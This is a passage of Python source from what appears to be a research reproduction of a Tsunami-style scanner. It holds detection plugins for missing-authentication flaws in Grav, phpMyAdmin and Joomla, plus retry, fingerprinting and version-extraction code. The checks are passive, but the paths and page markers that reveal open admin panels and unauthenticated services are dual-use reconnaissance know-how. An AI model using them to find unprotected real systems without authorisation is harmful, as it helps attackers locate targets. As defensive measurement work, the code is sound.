from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class GravPlugin(MavDetectionPlugin):
    slug = "grav"
    title = "Grav admin account can be created by anyone"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        response = context.fetch("/")
        if response is not None and response.status == 200:
            body = response.body
            if "The Admin plugin has been installed" in body and "Create User" in body:
                return self.report(context, "front page invites account creation")
        response = context.fetch("/admin")
        if response is None or response.status != 200:
            return None
        if "No user accounts found" in response.body and "create one" in response.body:
            return self.report(context, "/admin invites account creation")
        return None
