"""The 18 MAV detection plugins (paper Appendix A, Table 10).

One module per application; :data:`ALL_PLUGINS` is the registry the
engine selects from based on stage-II candidates.
"""

from repro.core.tsunami.plugin import MavDetectionPlugin
from repro.core.tsunami.plugins.adminer import AdminerPlugin
from repro.core.tsunami.plugins.ajenti import AjentiPlugin
from repro.core.tsunami.plugins.consul import ConsulPlugin
from repro.core.tsunami.plugins.docker import DockerPlugin
from repro.core.tsunami.plugins.drupal import DrupalPlugin
from repro.core.tsunami.plugins.gocd import GocdPlugin
from repro.core.tsunami.plugins.grav import GravPlugin
from repro.core.tsunami.plugins.hadoop import HadoopPlugin
from repro.core.tsunami.plugins.jenkins import JenkinsPlugin
from repro.core.tsunami.plugins.joomla import JoomlaPlugin
from repro.core.tsunami.plugins.jupyter import JupyterLabPlugin, JupyterNotebookPlugin
from repro.core.tsunami.plugins.kubernetes import KubernetesPlugin
from repro.core.tsunami.plugins.nomad import NomadPlugin
from repro.core.tsunami.plugins.phpmyadmin import PhpMyAdminPlugin
from repro.core.tsunami.plugins.polynote import PolynotePlugin
from repro.core.tsunami.plugins.wordpress import WordPressPlugin
from repro.core.tsunami.plugins.zeppelin import ZeppelinPlugin

ALL_PLUGINS: tuple[MavDetectionPlugin, ...] = (
    JenkinsPlugin(),
    GocdPlugin(),
    WordPressPlugin(),
    GravPlugin(),
    JoomlaPlugin(),
    DrupalPlugin(),
    KubernetesPlugin(),
    DockerPlugin(),
    ConsulPlugin(),
    HadoopPlugin(),
    NomadPlugin(),
    JupyterLabPlugin(),
    JupyterNotebookPlugin(),
    ZeppelinPlugin(),
    PolynotePlugin(),
    AjentiPlugin(),
    PhpMyAdminPlugin(),
    AdminerPlugin(),
)

_BY_SLUG = {plugin.slug: plugin for plugin in ALL_PLUGINS}


def plugin_for(slug: str) -> MavDetectionPlugin | None:
    """The detection plugin for an application, if one exists."""
    return _BY_SLUG.get(slug)


__all__ = [
    "ALL_PLUGINS",
    "plugin_for",
    "JenkinsPlugin",
    "GocdPlugin",
    "WordPressPlugin",
    "GravPlugin",
    "JoomlaPlugin",
    "DrupalPlugin",
    "KubernetesPlugin",
    "DockerPlugin",
    "ConsulPlugin",
    "HadoopPlugin",
    "NomadPlugin",
    "JupyterLabPlugin",
    "JupyterNotebookPlugin",
    "ZeppelinPlugin",
    "PolynotePlugin",
    "AjentiPlugin",
    "PhpMyAdminPlugin",
    "AdminerPlugin",
]
