"""phpMyAdmin empty-password detection (Table 10).

1. Visit ``/`` and check for 'Server connection collation' and
   'phpMyAdmin documentation' (the post-login server page; seeing it
   without credentials means ``AllowNoPassword`` + empty root password).
2. Otherwise repeat on ``/phpmyadmin``.

Like the paper, the check never submits a login form — the vulnerable
state is inferred from the page served to an anonymous GET.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext

_MARKERS = ("Server connection collation", "phpMyAdmin documentation")


class PhpMyAdminPlugin(MavDetectionPlugin):
    slug = "phpmyadmin"
    title = "phpMyAdmin grants SQL access without a password"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        for path in ("/", "/phpmyadmin"):
            response = context.fetch(path)
            if response is None or response.status != 200:
                continue
            if all(marker in response.body for marker in _MARKERS):
                return self.report(context, f"server page served at {path}")
        return None
