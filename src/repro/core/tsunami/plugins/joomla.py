"""Joomla installation-hijack detection (Table 10).

1. Visit ``/installation/index.php``.
2. Check that the body contains 'Joomla! Web Installer' or 'Enter the
   name of your Joomla! site'.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class JoomlaPlugin(MavDetectionPlugin):
    slug = "joomla"
    title = "Joomla web installer is publicly reachable"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        response = context.fetch("/installation/index.php")
        if response is None or response.status != 200:
            return None
        body = response.body
        if "Joomla! Web Installer" in body or "Enter the name of your Joomla! site" in body:
            return self.report(context, "installer page served")
        return None
