"""Stage III: the Tsunami-style plugin scanner.

A reimplementation of the design the paper open-sourced as the *Tsunami
security scanner*: an engine with an extensible plugin system where each
MAV verification logic is a dedicated plugin.  The plugins in
:mod:`repro.core.tsunami.plugins` transcribe the detection steps of the
paper's Table 10 (Appendix A).
"""

from repro.core.tsunami.plugin import (
    DetectionReport,
    MavDetectionPlugin,
    PluginContext,
)
from repro.core.tsunami.engine import TsunamiEngine
from repro.core.tsunami.plugins import ALL_PLUGINS, plugin_for

__all__ = [
    "DetectionReport",
    "MavDetectionPlugin",
    "PluginContext",
    "TsunamiEngine",
    "ALL_PLUGINS",
    "plugin_for",
]
