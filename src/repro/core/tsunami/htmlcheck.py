"""Small HTML inspection helpers used by the detection plugins.

Several Table-10 steps "parse the HTML response and verify that element X
exists"; this module provides that on top of the stdlib parser, plus a
well-formedness check (the Jenkins and WordPress plugins require "valid
HTML" before trusting body markers).
"""

from __future__ import annotations

from html.parser import HTMLParser


class _ElementCollector(HTMLParser):
    """Records (tag, id) pairs and parent-child containment."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, str | None]] = []
        self._stack: list[tuple[str, str | None]] = []
        self.contained: set[tuple[str, str | None, str, str | None]] = set()
        self.malformed = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element_id = dict(attrs).get("id")
        element = (tag, element_id)
        self.elements.append(element)
        for ancestor in self._stack:
            self.contained.add((*ancestor, *element))
        if tag not in _VOID_TAGS:
            self._stack.append(element)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element_id = dict(attrs).get("id")
        element = (tag, element_id)
        self.elements.append(element)
        for ancestor in self._stack:
            self.contained.add((*ancestor, *element))

    def handle_endtag(self, tag: str) -> None:
        for index in range(len(self._stack) - 1, -1, -1):
            if self._stack[index][0] == tag:
                del self._stack[index:]
                return
        self.malformed = True  # close tag without a matching open


_VOID_TAGS = frozenset(
    {"area", "base", "br", "col", "embed", "hr", "img", "input",
     "link", "meta", "source", "track", "wbr"}
)


def _parse(body: str) -> _ElementCollector:
    collector = _ElementCollector()
    try:
        collector.feed(body)
        collector.close()
    except Exception:  # html.parser raises on pathological input
        collector.malformed = True
    return collector


def is_valid_html(body: str) -> bool:
    """Loose well-formedness: parses, and has at least one element."""
    collector = _parse(body)
    return not collector.malformed and bool(collector.elements)


def has_element(body: str, tag: str, element_id: str | None = None) -> bool:
    """Does the document contain ``<tag id=element_id>``?"""
    collector = _parse(body)
    for found_tag, found_id in collector.elements:
        if found_tag == tag and (element_id is None or found_id == element_id):
            return True
    return False


def has_element_within(
    body: str,
    outer_tag: str,
    outer_id: str | None,
    inner_tag: str,
    inner_id: str | None,
) -> bool:
    """Does ``<outer>`` contain ``<inner>`` (CSS ``outer inner``)?"""
    collector = _parse(body)
    for outer_t, outer_i, inner_t, inner_i in collector.contained:
        if outer_t != outer_tag or inner_t != inner_tag:
            continue
        if outer_id is not None and outer_i != outer_id:
            continue
        if inner_id is not None and inner_i != inner_id:
            continue
        return True
    return False
