"""Retry with backoff, circuit breaking, and retry accounting.

The paper concedes its results are a lower bound because transiently
unavailable hosts are lost (§6.2); today one dropped request loses the
host forever.  This module supplies the failure-handling machinery real
large-scale HTTP clients ship:

* :class:`RetryPolicy` — how often to retry and how long to wait:
  bounded attempts, exponential backoff with *seeded* jitter (runs stay
  deterministic), a per-host retry budget, and an optional per-operation
  deadline;
* :class:`CircuitBreaker` — per-host and per-/24 circuits that stop
  hammering targets that keep failing, with half-open recovery probes;
* :class:`RetryExecutor` — applies a policy to transport operations,
  charging backoff delays to a :class:`~repro.util.clock.SimClock` and
  recording everything in :class:`RetryStats`, which the pipeline
  surfaces on its :class:`~repro.core.pipeline.ScanReport`.

Every pipeline stage threads its transport operations through one shared
executor, so retries, budgets, and breaker state are coherent across
stage I re-probes, stage II probing, stage III plugin requests, and the
fingerprint crawler.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, fields
from typing import Callable, TypeVar

from repro.net.ipv4 import IPv4Address
from repro.obs.telemetry import Telemetry
from repro.util.clock import SimClock
from repro.util.errors import (
    CircuitOpen,
    PoisonError,
    QuarantineSkip,
    TransportError,
)
from repro.util.rand import rng_state_from_json, rng_state_to_json

T = TypeVar("T")


@dataclass(frozen=True)
class RetryPolicy:
    """How a transport operation is retried."""

    #: total tries including the first (1 = no retries)
    max_attempts: int = 3
    #: delay before the first retry, in simulated seconds
    base_delay: float = 1.0
    #: backoff cap, in simulated seconds
    max_delay: float = 60.0
    #: multiplier between consecutive delays
    exponential_base: float = 2.0
    #: draw the delay uniformly from [delay/2, delay] (seeded upstream)
    jitter: bool = True
    #: total retries allowed per host across the whole sweep (None = unbounded)
    per_host_budget: int | None = 64
    #: give up when cumulative backoff would exceed this (None = unbounded)
    deadline: float | None = None

    def __post_init__(self) -> None:
        if self.max_attempts < 1:
            raise ValueError("max_attempts must be at least 1")
        if self.base_delay < 0 or self.max_delay < self.base_delay:
            raise ValueError("need 0 <= base_delay <= max_delay")
        if self.exponential_base < 1.0:
            raise ValueError("exponential_base must be >= 1")
        if self.per_host_budget is not None and self.per_host_budget < 0:
            raise ValueError("per_host_budget must be non-negative")
        if self.deadline is not None and self.deadline <= 0:
            raise ValueError("deadline must be positive")

    def backoff_delay(self, attempt: int, rng: random.Random) -> float:
        """Delay before retry number ``attempt + 1`` (0-based attempts)."""
        delay = min(
            self.base_delay * self.exponential_base ** attempt, self.max_delay
        )
        if self.jitter:
            delay *= 0.5 + rng.random() * 0.5
        return delay


@dataclass
class RetryStats:
    """What the resilience layer did during one sweep."""

    #: transport operations that entered the executor
    operations: int = 0
    #: individual tries, including each operation's first
    attempts: int = 0
    #: tries beyond the first
    retries: int = 0
    #: operations that failed at least once, then succeeded
    recovered: int = 0
    #: operations that failed on their final allowed attempt
    exhausted: int = 0
    #: operations skipped because a circuit was open
    breaker_skips: int = 0
    #: retries denied by the per-host budget
    budget_denials: int = 0
    #: retries denied because backoff would blow the deadline
    deadline_denials: int = 0
    #: operations that raised a non-transport (poison) error — never retried
    poisoned: int = 0
    #: operations refused because the target is quarantined
    quarantine_skips: int = 0
    #: cumulative backoff charged to the clock, simulated seconds
    backoff_seconds: float = 0.0

    def merge(self, other: "RetryStats") -> None:
        for f in fields(self):
            setattr(self, f.name, getattr(self, f.name) + getattr(other, f.name))

    def copy(self) -> "RetryStats":
        return RetryStats(**{f.name: getattr(self, f.name) for f in fields(self)})

    def to_dict(self) -> dict:
        return {f.name: getattr(self, f.name) for f in fields(self)}

    @classmethod
    def from_dict(cls, payload: dict) -> "RetryStats":
        known = {f.name for f in fields(cls)}
        return cls(**{k: v for k, v in payload.items() if k in known})


class CircuitBreaker:
    """Per-host and per-/24 failure circuits.

    After ``failure_threshold`` consecutive failures against one host (or
    ``slash24_threshold`` against one /24 with no intervening success)
    the circuit *opens*: operations are refused without touching the wire
    for ``cooldown`` seconds.  After the cooldown the circuit goes
    *half-open* — one trial operation is let through; success closes the
    circuit, failure re-opens it immediately.

    Time comes from a :class:`~repro.util.clock.SimClock` when one is
    given; otherwise an internal event counter stands in, so the breaker
    still recovers in long clock-less runs.
    """

    def __init__(
        self,
        failure_threshold: int = 5,
        slash24_threshold: int = 64,
        cooldown: float = 300.0,
        clock: SimClock | None = None,
        telemetry: Telemetry | None = None,
    ) -> None:
        if failure_threshold < 1 or slash24_threshold < 1:
            raise ValueError("thresholds must be at least 1")
        if cooldown <= 0:
            raise ValueError("cooldown must be positive")
        self.failure_threshold = failure_threshold
        self.slash24_threshold = slash24_threshold
        self.cooldown = cooldown
        self.clock = clock
        self.telemetry = telemetry
        self._ticks = 0
        self._host_failures: dict[int, int] = {}
        self._host_open_until: dict[int, float] = {}
        self._block_failures: dict[int, int] = {}
        self._block_open_until: dict[int, float] = {}
        #: circuits opened over the breaker's lifetime (hosts + blocks)
        self.opened = 0

    def _now(self) -> float:
        return self.clock.now if self.clock is not None else float(self._ticks)

    def _allow_one(
        self, key: int, open_until: dict[int, float], failures: dict[int, int],
        threshold: int,
    ) -> bool:
        deadline = open_until.get(key)
        if deadline is None:
            return True
        if self._now() < deadline:
            return False
        # Half-open: admit one trial; the next failure re-opens at once.
        del open_until[key]
        failures[key] = threshold - 1
        return True

    def allow(self, ip: IPv4Address) -> bool:
        """May the executor touch ``ip`` right now?"""
        block_ok = self._allow_one(
            ip.value & 0xFFFFFF00, self._block_open_until,
            self._block_failures, self.slash24_threshold,
        )
        host_ok = self._allow_one(
            ip.value, self._host_open_until,
            self._host_failures, self.failure_threshold,
        )
        return block_ok and host_ok

    def record_success(self, ip: IPv4Address) -> None:
        self._ticks += 1
        self._host_failures.pop(ip.value, None)
        self._block_failures.pop(ip.value & 0xFFFFFF00, None)

    def record_failure(self, ip: IPv4Address) -> None:
        self._ticks += 1
        host = ip.value
        block = ip.value & 0xFFFFFF00
        self._host_failures[host] = self._host_failures.get(host, 0) + 1
        if self._host_failures[host] >= self.failure_threshold:
            self._host_open_until[host] = self._now() + self.cooldown
            self._host_failures.pop(host, None)
            self.opened += 1
            self._note_opened("host", ip)
        self._block_failures[block] = self._block_failures.get(block, 0) + 1
        if self._block_failures[block] >= self.slash24_threshold:
            self._block_open_until[block] = self._now() + self.cooldown
            self._block_failures.pop(block, None)
            self.opened += 1
            self._note_opened("slash24", IPv4Address(block))

    def _note_opened(self, scope: str, target: IPv4Address) -> None:
        if self.telemetry is None:
            return
        self.telemetry.metrics.counter("circuit_opened_total", scope=scope).inc()
        self.telemetry.events.warn(
            "retry", "circuit-open", host=target,
            scope=scope, cooldown=self.cooldown,
        )

    def open_circuits(self) -> int:
        """Circuits currently open (hosts + /24 blocks)."""
        now = self._now()
        return sum(
            1
            for table in (self._host_open_until, self._block_open_until)
            for deadline in table.values()
            if deadline > now
        )

    # -- checkpoint support ------------------------------------------------

    def snapshot_state(self) -> dict:
        return {
            "ticks": self._ticks,
            "opened": self.opened,
            "host_failures": dict(self._host_failures),
            "host_open_until": dict(self._host_open_until),
            "block_failures": dict(self._block_failures),
            "block_open_until": dict(self._block_open_until),
        }

    def restore_state(self, state: dict) -> None:
        self._ticks = state["ticks"]
        self.opened = state["opened"]
        self._host_failures = {int(k): v for k, v in state["host_failures"].items()}
        self._host_open_until = {
            int(k): v for k, v in state["host_open_until"].items()
        }
        self._block_failures = {
            int(k): v for k, v in state["block_failures"].items()
        }
        self._block_open_until = {
            int(k): v for k, v in state["block_open_until"].items()
        }


class RetryExecutor:
    """Runs transport operations under a policy, breaker, and stats block.

    One executor is shared by every pipeline stage.  Two entry points:

    * :meth:`call` for operations that raise
      :class:`~repro.util.errors.TransportError` on failure (HTTP
      requests, certificate fetches) — re-raises after the final attempt;
    * :meth:`probe` for SYN probes, whose failure mode is a ``False``
      return — a lost probe is indistinguishable from a closed port, so
      stage I re-probes instead of trusting a single answer.  Probe
      misses never feed the breaker (most ports are closed on healthy
      hosts); only request-path failures do.

    Exceptions that are *not* :class:`~repro.util.errors.TransportError`
    are classified as poison: the target's response deterministically
    crashes whatever consumes it, so retrying burns budget for an
    identical crash.  They are re-raised immediately as
    :class:`~repro.util.errors.PoisonError` (which *is* a
    TransportError, so stage-level failure handling degrades
    gracefully) and reported to the supervision hook, which feeds the
    quarantine ledger instead of the retry loop.
    """

    def __init__(
        self,
        policy: RetryPolicy,
        rng: random.Random | None = None,
        clock: SimClock | None = None,
        breaker: CircuitBreaker | None = None,
        stats: RetryStats | None = None,
        telemetry: Telemetry | None = None,
        supervision=None,
    ) -> None:
        self.policy = policy
        self._rng = rng if rng is not None else random.Random(0)
        self.clock = clock
        self.breaker = breaker
        self.stats = stats if stats is not None else RetryStats()
        self.telemetry = telemetry
        #: shard supervision hook (quarantine gate, poison/stall notes);
        #: duck-typed to keep this module free of supervisor imports
        self.supervision = supervision
        self._host_retries: dict[int, int] = {}

    # -- internals ---------------------------------------------------------

    def _count(self, name: str, amount: float = 1.0, **labels: object) -> None:
        if self.telemetry is not None:
            self.telemetry.metrics.counter(name, **labels).inc(amount)

    def _check_breaker(self, ip: IPv4Address) -> bool:
        if self.breaker is not None and not self.breaker.allow(ip):
            self.stats.breaker_skips += 1
            self._count("retry_breaker_skips_total")
            return False
        return True

    def _check_quarantine(self, ip: IPv4Address) -> bool:
        """True when ``ip`` is quarantined (operation must be refused)."""
        if self.supervision is None or not self.supervision.is_quarantined(ip):
            return False
        self.stats.quarantine_skips += 1
        self._count("retry_quarantine_skips_total")
        return True

    def _classify_poison(self, ip: IPv4Address, exc: Exception) -> PoisonError:
        """Account a non-transport crash and wrap it for the caller."""
        self.stats.poisoned += 1
        self._count("retry_poisoned_total")
        if self.telemetry is not None:
            self.telemetry.events.warn(
                "retry", "poison", host=ip, error=type(exc).__name__,
            )
        if self.supervision is not None:
            self.supervision.note_poison(ip)
        return PoisonError(f"poison response from {ip}: {exc}")

    def _note_activity(self, ip: IPv4Address) -> None:
        if self.supervision is not None:
            self.supervision.note_activity(ip)

    def _may_retry(
        self, ip: IPv4Address, attempt: int, elapsed: float, use_budget: bool = True
    ) -> float | None:
        """Backoff delay for the next retry, or None to give up."""
        if attempt + 1 >= self.policy.max_attempts:
            return None
        budget = self.policy.per_host_budget
        if (
            use_budget
            and budget is not None
            and self._host_retries.get(ip.value, 0) >= budget
        ):
            self.stats.budget_denials += 1
            self._count("retry_denials_total", reason="budget")
            return None
        if self.breaker is not None and not self.breaker.allow(ip):
            self.stats.breaker_skips += 1
            self._count("retry_breaker_skips_total")
            return None
        delay = self.policy.backoff_delay(attempt, self._rng)
        if self.policy.deadline is not None and elapsed + delay > self.policy.deadline:
            self.stats.deadline_denials += 1
            self._count("retry_denials_total", reason="deadline")
            return None
        return delay

    def _charge(self, ip: IPv4Address, delay: float, use_budget: bool = True) -> None:
        self.stats.retries += 1
        self.stats.backoff_seconds += delay
        self._count("retry_retries_total")
        self._count("retry_backoff_seconds_total", amount=delay)
        if use_budget:
            self._host_retries[ip.value] = self._host_retries.get(ip.value, 0) + 1
        if self.clock is not None:
            self.clock.advance(delay)

    # -- entry points ------------------------------------------------------

    def call(self, ip: IPv4Address, operation: Callable[[], T]) -> T:
        """Run a raising operation with retries; re-raise on exhaustion.

        Quarantined targets are refused up front (like an open circuit);
        non-transport exceptions are classified as poison and re-raised
        without consuming a single retry.
        """
        if self._check_quarantine(ip):
            raise QuarantineSkip(f"{ip} is quarantined")
        if not self._check_breaker(ip):
            raise CircuitOpen(f"circuit open for {ip}")
        self.stats.operations += 1
        self._count("retry_operations_total", kind="call")
        elapsed = 0.0
        failed_before = False
        last: TransportError | None = None
        for attempt in range(self.policy.max_attempts):
            self.stats.attempts += 1
            self._count("retry_attempts_total")
            try:
                result = operation()
            except PoisonError:
                # Already classified by a nested executor call.
                self._note_activity(ip)
                raise
            except TransportError as exc:
                last = exc
                failed_before = True
                if self.breaker is not None:
                    self.breaker.record_failure(ip)
            except Exception as exc:
                self._note_activity(ip)
                raise self._classify_poison(ip, exc) from exc
            else:
                if self.breaker is not None:
                    self.breaker.record_success(ip)
                if failed_before:
                    self.stats.recovered += 1
                    self._count("retry_recovered_total")
                self._note_activity(ip)
                return result
            delay = self._may_retry(ip, attempt, elapsed)
            if delay is None:
                break
            elapsed += delay
            self._charge(ip, delay)
        self.stats.exhausted += 1
        self._count("retry_exhausted_total")
        if self.telemetry is not None:
            self.telemetry.events.debug(
                "retry", "exhausted", host=ip,
                attempts=self.policy.max_attempts, error=type(last).__name__,
            )
        self._note_activity(ip)
        assert last is not None
        raise last

    def probe(self, ip: IPv4Address, operation: Callable[[], bool]) -> bool:
        """Run a boolean probe with re-probes; False only if all fail.

        A ``False`` may mean "closed port" rather than "lost probe", so
        re-probes neither consume the per-host retry budget nor count as
        exhausted operations — every genuinely closed port would
        otherwise drain both.
        """
        if self._check_quarantine(ip):
            return False
        if not self._check_breaker(ip):
            return False
        self.stats.operations += 1
        self._count("retry_operations_total", kind="probe")
        elapsed = 0.0
        failed_before = False
        for attempt in range(self.policy.max_attempts):
            self.stats.attempts += 1
            self._count("retry_attempts_total")
            if operation():
                if failed_before:
                    self.stats.recovered += 1
                    self._count("retry_recovered_total")
                self._note_activity(ip)
                return True
            failed_before = True
            delay = self._may_retry(ip, attempt, elapsed, use_budget=False)
            if delay is None:
                break
            elapsed += delay
            self._charge(ip, delay, use_budget=False)
        self._note_activity(ip)
        return False

    # -- checkpoint support ------------------------------------------------

    def snapshot_state(self) -> dict:
        return {
            "rng": rng_state_to_json(self._rng.getstate()),
            "stats": self.stats.to_dict(),
            "host_retries": dict(self._host_retries),
        }

    def restore_state(self, state: dict) -> None:
        self._rng.setstate(rng_state_from_json(state["rng"]))
        self.stats = RetryStats.from_dict(state["stats"])
        self._host_retries = {int(k): v for k, v in state["host_retries"].items()}
