"""The combined version fingerprinter (a Tsunami plugin in the paper).

Order of attack, per the paper:

1. voluntary disclosure (13 applications reveal their version);
2. static-file hash matching against the knowledge base for the five
   remaining applications and for hosts that stripped the version string.

Results carry the *method* that produced them so the fingerprint-coverage
ablation can compare the two mechanisms.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from repro.core.fingerprint.crawler import StaticFileCrawler
from repro.core.fingerprint.disclosure import extract_disclosed_version
from repro.core.fingerprint.knowledge_base import KnowledgeBase
from repro.core.retry import RetryExecutor
from repro.core.tsunami.plugin import PluginContext
from repro.net.http import Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.obs.telemetry import Telemetry


class FingerprintMethod(enum.Enum):
    DISCLOSURE = "disclosure"
    HASH_MATCH = "hash-match"


@dataclass(frozen=True)
class Fingerprint:
    """A (slug, version) identification of one deployed instance."""

    slug: str
    version: str
    method: FingerprintMethod


class VersionFingerprinter:
    """Disclosure-first fingerprinter with a hash-matching fallback."""

    def __init__(
        self,
        transport: Transport,
        knowledge_base: KnowledgeBase,
        max_crawl_fetches: int = 16,
        use_disclosure: bool = True,
        use_hashes: bool = True,
        retry: "RetryExecutor | None" = None,
        telemetry: Telemetry | None = None,
    ) -> None:
        self.transport = transport
        self.kb = knowledge_base
        self.retry = retry
        self.telemetry = telemetry
        self.crawler = StaticFileCrawler(
            transport, max_fetches=max_crawl_fetches, retry=retry,
            telemetry=telemetry,
        )
        self.use_disclosure = use_disclosure
        self.use_hashes = use_hashes

    def fingerprint(
        self,
        ip: IPv4Address,
        port: int,
        scheme: Scheme,
        candidates: tuple[str, ...],
    ) -> Fingerprint | None:
        """Identify the application and version running on a target."""
        result = self._fingerprint(ip, port, scheme, candidates)
        if self.telemetry is not None:
            method = result.method.value if result is not None else "none"
            self.telemetry.metrics.counter(
                "fingerprint_results_total", method=method
            ).inc()
        return result

    def _fingerprint(
        self,
        ip: IPv4Address,
        port: int,
        scheme: Scheme,
        candidates: tuple[str, ...],
    ) -> Fingerprint | None:
        context = PluginContext(self.transport, ip, port, scheme, retry=self.retry)
        if self.use_disclosure:
            for slug in candidates:
                version = extract_disclosed_version(context, slug)
                if version is not None:
                    return Fingerprint(slug, version, FingerprintMethod.DISCLOSURE)
        if self.use_hashes:
            observations = self.crawler.crawl(ip, port, scheme, candidates, self.kb)
            identified = self.kb.identify(observations)
            if identified is not None:
                slug, version = identified
                return Fingerprint(slug, version, FingerprintMethod.HASH_MATCH)
        return None
