"""Hash knowledge base for static-file fingerprinting.

The paper builds its knowledge base "using the repositories of the
open-source applications", hashing static files (images, scripts,
stylesheets) of every release.  We build ours from the same corpus our
Internet runs on: every release of every emulator, hashed file by file.
The matching logic is identical either way — given a set of
``(path, hash)`` observations from a crawl, find the (application,
version) whose release corpus explains them.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field

from repro.apps.catalog import all_apps
from repro.apps.versions import RELEASE_DB


def file_hash(content: str) -> str:
    """The digest stored in the knowledge base (SHA-256, hex)."""
    return hashlib.sha256(content.encode()).hexdigest()


@dataclass(frozen=True)
class KbEntry:
    slug: str
    version: str
    path: str


@dataclass
class KnowledgeBase:
    """hash -> releases that ship a file with that hash."""

    entries: dict[str, list[KbEntry]] = field(default_factory=dict)
    #: slug -> static paths any of its releases serve (crawler probe list)
    known_paths: dict[str, tuple[str, ...]] = field(default_factory=dict)

    def add(self, slug: str, version: str, path: str, content: str) -> None:
        digest = file_hash(content)
        self.entries.setdefault(digest, []).append(KbEntry(slug, version, path))

    def lookup(self, digest: str) -> list[KbEntry]:
        return self.entries.get(digest, [])

    def paths_for(self, slug: str) -> tuple[str, ...]:
        return self.known_paths.get(slug, ())

    def identify(self, observations: dict[str, str]) -> tuple[str, str] | None:
        """Identify an application from crawled ``path -> hash`` pairs.

        Each observed hash votes for the releases that ship it; the
        release explaining the most observed files wins.  Ties break
        toward the *newest* release (a strict subset of files rarely
        distinguishes adjacent patch releases; newest is the maximum-
        likelihood guess given how deployments skew).  Returns
        ``(slug, version)`` or ``None`` if nothing matches.
        """
        votes: dict[tuple[str, str], int] = {}
        for digest in observations.values():
            for entry in self.lookup(digest):
                key = (entry.slug, entry.version)
                votes[key] = votes.get(key, 0) + 1
        if not votes:
            return None
        best_count = max(votes.values())
        tied = [key for key, count in votes.items() if count == best_count]
        if len(tied) == 1:
            return tied[0]
        # Deterministic tie-break: newest release date, then slug.
        def sort_key(key: tuple[str, str]) -> tuple[float, str]:
            slug, version = key
            return (RELEASE_DB.release_date(slug, version), slug)

        return max(tied, key=sort_key)

    def __len__(self) -> int:
        return sum(len(v) for v in self.entries.values())


def build_default_knowledge_base() -> KnowledgeBase:
    """Hash every static file of every release of every catalog app."""
    kb = KnowledgeBase()
    for spec in all_apps():
        paths: set[str] = set()
        for release in RELEASE_DB.releases(spec.slug):
            instance = spec.emulator(release.version, {})
            if hasattr(instance, "validate_config"):
                pass  # constructor already validated
            for path, content in instance.static_files().items():
                kb.add(spec.slug, release.version, path, content)
                paths.add(path)
        kb.known_paths[spec.slug] = tuple(sorted(paths))
    return kb
