"""Voluntary version disclosure extraction.

"We first try to extract the exact version number from the 13
applications where this information is usually voluntarily revealed,
e.g., Kubernetes has the /version API endpoint while Consul includes a
HTML comment."  One extractor per disclosing application; each issues at
most two GETs and parses the version out of a header, a JSON field, or a
page marker.
"""

from __future__ import annotations

import json
import re
from typing import Callable

from repro.core.tsunami.plugin import PluginContext

_Extractor = Callable[[PluginContext], str | None]


def _jenkins(context: PluginContext) -> str | None:
    response = context.fetch("/")
    if response is None:
        return None
    return response.headers.get("x-jenkins")


def _gocd(context: PluginContext) -> str | None:
    response = context.fetch("/go/home")
    if response is None:
        return None
    match = re.search(r'data-version="([\d.]+)"', response.body)
    return match.group(1) if match else None


def _wordpress(context: PluginContext) -> str | None:
    response = context.fetch("/")
    if response is None:
        return None
    match = re.search(r'content="WordPress ([\d.]+)"', response.body)
    return match.group(1) if match else None


def _kubernetes(context: PluginContext) -> str | None:
    payload = context.fetch_json("/version")
    if isinstance(payload, dict):
        git_version = payload.get("gitVersion", "")
        if isinstance(git_version, str) and git_version.startswith("v"):
            return git_version[1:]
    return None


def _docker(context: PluginContext) -> str | None:
    payload = context.fetch_json("/version")
    if isinstance(payload, dict) and isinstance(payload.get("Version"), str):
        return payload["Version"]
    return None


def _consul(context: PluginContext) -> str | None:
    payload = context.fetch_json("/v1/agent/self")
    if isinstance(payload, dict):
        version = payload.get("Config", {}).get("Version")
        if isinstance(version, str):
            return version
    # Fall back to the HTML comment in the UI.
    response = context.fetch("/ui/")
    if response is not None:
        match = re.search(r"CONSUL_VERSION: ([\d.]+)", response.body)
        if match:
            return match.group(1)
    return None


def _hadoop(context: PluginContext) -> str | None:
    payload = context.fetch_json("/ws/v1/cluster/info")
    if isinstance(payload, dict):
        version = payload.get("clusterInfo", {}).get("hadoopVersion")
        if isinstance(version, str):
            return version
    response = context.fetch("/cluster/cluster")
    if response is not None:
        match = re.search(r"Hadoop version</td><td>([\d.]+)", response.body)
        if match:
            return match.group(1)
    return None


def _nomad(context: PluginContext) -> str | None:
    payload = context.fetch_json("/v1/agent/self")
    if isinstance(payload, dict):
        version = payload.get("config", {}).get("Version", {}).get("Version")
        if isinstance(version, str):
            return version
    return None


def _jupyter(context: PluginContext) -> str | None:
    payload = context.fetch_json("/api")
    if isinstance(payload, dict) and isinstance(payload.get("version"), str):
        return payload["version"]
    return None


def _zeppelin(context: PluginContext) -> str | None:
    payload = context.fetch_json("/api/version")
    if isinstance(payload, dict):
        version = payload.get("body", {}).get("version")
        if isinstance(version, str):
            return version
    return None


def _phpmyadmin(context: PluginContext) -> str | None:
    for path in ("/", "/phpmyadmin"):
        response = context.fetch(path)
        if response is None:
            continue
        match = re.search(r"phpMyAdmin ([\d.]+)", response.body)
        if match:
            return match.group(1)
    return None


def _adminer(context: PluginContext) -> str | None:
    response = context.fetch("/")
    if response is None:
        return None
    match = re.search(r'<span class="version">([\d.]+)</span>', response.body)
    return match.group(1) if match else None


#: the 13 voluntarily-disclosing applications
DISCLOSURE_EXTRACTORS: dict[str, _Extractor] = {
    "jenkins": _jenkins,
    "gocd": _gocd,
    "wordpress": _wordpress,
    "kubernetes": _kubernetes,
    "docker": _docker,
    "consul": _consul,
    "hadoop": _hadoop,
    "nomad": _nomad,
    "jupyterlab": _jupyter,
